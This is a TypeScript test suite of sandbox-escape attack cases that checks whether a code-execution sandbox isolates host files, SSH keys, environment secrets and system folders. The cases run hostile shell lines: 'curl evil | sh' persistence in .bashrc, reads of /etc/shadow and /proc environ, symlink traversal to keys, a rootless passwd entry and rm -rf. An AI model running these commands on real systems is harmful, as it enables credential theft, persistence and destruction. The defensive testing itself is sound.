// Attack cases: the file system. The sandbox sees a read-only /usr, a handful of /etc files, the
// workspace (read-only or a copy) and its own tmpfs folders; nothing it writes reaches the host,
// and the host's secrets are not in its view at all. Each case checks the host afterwards.
import assert from "node:assert/strict";
import { existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { homedir } from "node:os";
import { join } from "node:path";
import { after, before, test } from "node:test";
import type { Sandbox } from "../../server/sandbox/index.ts";
import { attack, hostFixture, hostUnsafe, skipUnlessIsolated, smallSandbox, uniqueMarker, type HostFixture } from "./support.ts";

let sandbox: Sandbox;
let skip: string | false;
let fx: HostFixture;
const realHome = homedir();
const savedEnv = { HOME: process.env.HOME, OPENAI_API_KEY: process.env.OPENAI_API_KEY, GITHUB_TOKEN: process.env.GITHUB_TOKEN };

before(async () => {
    fx = hostFixture();
    // The host side of the sandbox runs with this HOME: its fake ~/.ssh key is what an attack would want.
    process.env.HOME = fx.home;
    sandbox = await smallSandbox();
    skip = skipUnlessIsolated(sandbox);
});

after(() => {
    for (const [name, value] of Object.entries(savedEnv)) {
        if (value === undefined) delete process.env[name];
        else process.env[name] = value;
    }
    fx.cleanup();
});

test("attack 07: files written to /tmp stay in the sandbox's own tmpfs", async (t) => {
    if (skip) return t.skip(skip);
    const marker = uniqueMarker("tmp");
    try {
        const result = await attack(sandbox, {
            language: "shell",
            code: `echo pwned > /tmp/${marker} && echo written; python3 -c "open('/tmp/${marker}.py','w').write('x')" && echo written-py; ls /tmp`,
        });
        assert.match(result.stdout, /written\nwritten-py/, "the write itself works, inside");
        assert.equal(existsSync(`/tmp/${marker}`), false, "host /tmp must not have the file");
        assert.equal(existsSync(`/tmp/${marker}.py`), false);
    } finally {
        rmSync(`/tmp/${marker}`, { force: true });
        rmSync(`/tmp/${marker}.py`, { force: true });
    }
});

test("attack 08: writes to $HOME (the sandbox's and the host user's) leave the host home unchanged", async (t) => {
    if (skip) return t.skip(skip);
    const marker = uniqueMarker("home");
    const bashrc = join(fx.home, ".bashrc");
    const original = readFileSync(bashrc, "utf8");
    try {
        const result = await attack(sandbox, {
            language: "shell",
            code: [
                `echo 'curl evil | sh # ${marker}' >> ~/.bashrc && echo own-home-written`,
                `echo 'curl evil | sh # ${marker}' >> ${bashrc} || echo host-bashrc-blocked`,
                `touch ${fx.home}/${marker} || echo host-home-blocked`,
                `touch ${realHome}/${marker} || echo real-home-blocked`,
            ].join("\n"),
        });
        assert.match(result.stdout, /own-home-written/);
        assert.equal(readFileSync(bashrc, "utf8"), original, "host ~/.bashrc unchanged");
        assert.equal(existsSync(join(fx.home, marker)), false);
        assert.equal(existsSync(join(realHome, marker)), false);
    } finally {
        rmSync(join(realHome, marker), { force: true });
    }
});

test("attack 09: the read-only workspace cannot be modified, by its sandbox path or its host path", async (t) => {
    if (skip) return t.skip(skip);
    const marker = uniqueMarker("ws");
    const result = await attack(sandbox, {
        language: "shell",
        workspace: { path: fx.workspace, mode: "readonly" },
        code: [
            `echo ${marker} > README.md || echo readme-blocked`,
            `touch /workspace/${marker} || echo create-blocked`,
            `rm -f /workspace/README.md || echo rm-blocked`,
            `echo ${marker} > ${fx.workspace}/README.md || echo host-path-blocked`,
        ].join("\n"),
    });
    assert.match(result.stderr, /Read-only file system/);
    assert.equal(readFileSync(join(fx.workspace, "README.md"), "utf8"), "original readme\n");
    assert.equal(existsSync(join(fx.workspace, marker)), false);
});

test("attack 10: ~/.ssh keys of the host are nowhere in the sandbox's view", async (t) => {
    if (skip) return t.skip(skip);
    const keyLine = fx.sshKeyContent.split("\n")[1]!;
    const result = await attack(sandbox, {
        language: "shell",
        code: [
            `cat ${fx.sshKey} ~/.ssh/id_ed25519 ${realHome}/.ssh/* /root/.ssh/* 2>&1`,
            `grep -rl -- '${keyLine}' /etc /home /tmp /sandbox /dev/shm ${fx.root} 2>/dev/null`,
            "echo done",
        ].join("\n"),
    });
    assert.match(result.stdout, /done/);
    assert.ok(!result.stdout.includes(keyLine) && !result.stderr.includes(keyLine), "the key must not be readable");
});

test("attack 11: environment secrets of the server are not visible (env, /proc/*/environ)", async (t) => {
    if (skip) return t.skip(skip);
    const secret = uniqueMarker("sk");
    process.env.OPENAI_API_KEY = `sk-${secret}`;
    process.env.GITHUB_TOKEN = `ghp_${secret}`;
    const result = await attack(sandbox, {
        language: "shell",
        code: "env; cat /proc/self/environ /proc/1/environ; for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < $f; done 2>/dev/null; echo done",
    });
    assert.match(result.stdout, /done/);
    assert.ok(!result.stdout.includes(secret), "no secret in the output");
    assert.match(result.stdout, /^HOME=\/home\/sandbox$/m);
});

test("attack 12: /etc/shadow, ssh host keys and the rest of the host's /etc are not there", async (t) => {
    if (skip) return t.skip(skip);
    const result = await attack(sandbox, {
        language: "shell",
        code: "cat /etc/shadow /etc/gshadow /etc/ssh/ssh_host_*_key 2>&1 | head -c 2000; echo; ls /etc",
    });
    assert.doesNotMatch(result.stdout, /root:[^x:]*:\d+:/, "no shadow entries");
    assert.doesNotMatch(result.stdout, /PRIVATE KEY/);
    const listed = result.stdout.trim().split("\n").slice(-8).join(" ");
    for (const name of ["shadow", "ssh", "sudoers", "gshadow"]) assert.doesNotMatch(listed, new RegExp(`\\b${name}\\b`));
});

test("attack 13: symlinks made in the scratch folder resolve inside the sandbox, never to the host", async (t) => {
    if (skip) return t.skip(skip);
    const result = await attack(sandbox, {
        language: "shell",
        code: [
            "ln -s / /tmp/root-link && ln -s ../../../../.. ~/up",
            `cat /tmp/root-link${fx.sshKey} ~/up${fx.sshKey} 2>&1 || echo blocked`,
            `ln ${fx.sshKey} /tmp/hard 2>&1 || echo hardlink-blocked`,
            `python3 -c "import os; os.symlink('${fx.sshKey}', '/tmp/s'); print(open('/tmp/s').read())" 2>&1 | tail -1`,
        ].join("\n"),
    });
    assert.ok(!result.stdout.includes(fx.sshKeyContent.split("\n")[1]!));
    assert.match(result.stdout, /blocked/);
    assert.match(result.stdout, /hardlink-blocked/);
});

test("attack 14: a symlink planted in the workspace pointing at a host secret does not resolve (read-only and copy)", async (t) => {
    if (skip) return t.skip(skip);
    const link = join(fx.workspace, "innocent.txt");
    symlinkSync(fx.sshKey, link);
    try {
        for (const mode of ["readonly", "copy"] as const) {
            const result = await attack(sandbox, {
                language: "shell",
                workspace: { path: fx.workspace, mode },
                code: "cat innocent.txt 2>&1 || echo dangling; readlink innocent.txt",
            });
            assert.match(result.stdout, /dangling/, `${mode}: the link must dangle`);
            assert.ok(!result.stdout.includes(fx.sshKeyContent.split("\n")[1]!));
        }
    } finally {
        rmSync(link, { force: true });
    }
});

test("attack 14b: a workspace whose node_modules is a link to a host folder does not get that folder mounted (copy mode)", async (t) => {
    if (skip) return t.skip(skip);
    // The copy mode binds the workspace's node_modules read-only; a committed link must not turn
    // that bind into a window on a host folder (one anyone may read, so only the mount protects it).
    const outside = join(fx.root, "outside-the-workspace");
    const marker = uniqueMarker("outside");
    mkdirSync(outside, { recursive: true, mode: 0o755 });
    writeFileSync(join(outside, "notes.txt"), `${marker}\n`, { mode: 0o644 });
    const link = join(fx.workspace, "node_modules");
    symlinkSync(outside, link);
    try {
        const result = await attack(sandbox, {
            language: "shell",
            workspace: { path: fx.workspace, mode: "copy" },
            code: "ls node_modules/ 2>&1; cat node_modules/notes.txt 2>&1; echo done",
        });
        assert.match(result.stdout, /done/);
        assert.ok(!result.stdout.includes(marker), `the host folder must not be readable: ${result.stdout}`);
    } finally {
        rmSync(link, { force: true });
        rmSync(outside, { recursive: true, force: true });
    }
});

test("attack 15: /proc tricks: /proc/1/root, /proc/self/root and the server's /proc entries lead nowhere", async (t) => {
    if (skip) return t.skip(skip);
    const keyLine = fx.sshKeyContent.split("\n")[1]!;
    const result = await attack(sandbox, {
        language: "shell",
        code: [
            `cat /proc/1/root${fx.sshKey} /proc/self/root${fx.sshKey} /proc/2/root${fx.sshKey} 2>&1`,
            `cat /proc/${process.pid}/environ /proc/${process.pid}/cmdline 2>&1; ls /proc/${process.pid}/root/ 2>&1`,
            `echo pids: $(ls -d /proc/[0-9]* | wc -l)`,
            "cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' ' '; echo",
        ].join("\n"),
    });
    assert.ok(!result.stdout.includes(keyLine));
    assert.ok(!result.stdout.includes("--test"), "the test runner's command line is not visible");
    const pids = Number(/pids: (\d+)/.exec(result.stdout)?.[1]);
    assert.ok(pids > 0 && pids < 10, `only the sandbox's own few processes are visible (saw ${pids})`);
});

test("attack 16: the host's other folders (/root, /home, /var, /opt, /srv, /mnt, /run, /sys) are not in view", async (t) => {
    if (skip) return t.skip(skip);
    const result = await attack(sandbox, {
        language: "shell",
        code: "for d in /root /var /opt /srv /mnt /media /boot /run /sys /snap; do [ -e $d ] && echo present $d; done; ls /home; echo done",
    });
    assert.doesNotMatch(result.stdout, /present/);
    assert.equal(result.stdout.trim(), "sandbox\ndone");
});

test("attack 17: the system folders are read-only: no planting binaries in /usr/bin or rewriting /etc", async (t) => {
    const unsafe = hostUnsafe(sandbox);
    if (unsafe) return t.skip(unsafe);
    const marker = uniqueMarker("usr");
    const result = await attack(sandbox, {
        language: "shell",
        code: [
            `cp /bin/sh /usr/bin/${marker} || echo usr-blocked`,
            `echo 'x::0:0::/:/bin/sh' >> /etc/passwd || echo etc-blocked`,
            `mkdir /${marker} || echo root-blocked`,
        ].join("\n"),
    });
    assert.match(result.stdout, /usr-blocked\netc-blocked\nroot-blocked/);
    assert.equal(existsSync(`/usr/bin/${marker}`), false);
    assert.doesNotMatch(readFileSync("/etc/passwd", "utf8"), /^x::0:0/m);
});

test("attack 18: wrecking the workspace copy (rm -rf, overwrite) leaves the real workspace intact", async (t) => {
    const unsafe = hostUnsafe(sandbox);
    if (unsafe) return t.skip(unsafe);
    const result = await attack(sandbox, {
        language: "shell",
        workspace: { path: fx.workspace, mode: "copy" },
        code: "cat README.md && echo wrecked > README.md && rm -rf /workspace/* && ls -A /workspace | wc -l",
    });
    assert.match(result.stdout, /original readme\n0\n/);
    assert.equal(readFileSync(join(fx.workspace, "README.md"), "utf8"), "original readme\n");
});
